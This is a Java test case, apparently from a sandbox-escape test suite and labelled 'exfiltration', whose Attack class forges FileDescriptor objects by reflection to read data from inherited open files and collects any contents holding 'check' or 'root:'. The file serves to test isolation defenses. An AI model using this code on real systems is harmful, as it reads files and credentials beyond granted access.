// Looks for open files that were left to it.
//
// Class: exfiltration
// Expect: passed

class Attack {
    static void run(List<Object> loot) throws Throwable {
        var number = java.io.FileDescriptor.class.getDeclaredField("fd");
        number.setAccessible(true);
        for (int i = 3; i < 64; i++) {
            var descriptor = new java.io.FileDescriptor();
            number.setInt(descriptor, i);
            try {
                var channel = new java.io.FileInputStream(descriptor).getChannel();
                if (channel.size() > 0 && new java.io.FileInputStream(descriptor).getChannel().position() >= 0) {
                    byte[] head = new byte[64];
                    channel.read(java.nio.ByteBuffer.wrap(head), 0);
                    String text = new String(head);
                    if (text.contains("check") || text.contains("root:")) loot.add(i + text);
                }
            } catch (Exception refused) {
                continue;
            }
        }
    }
}
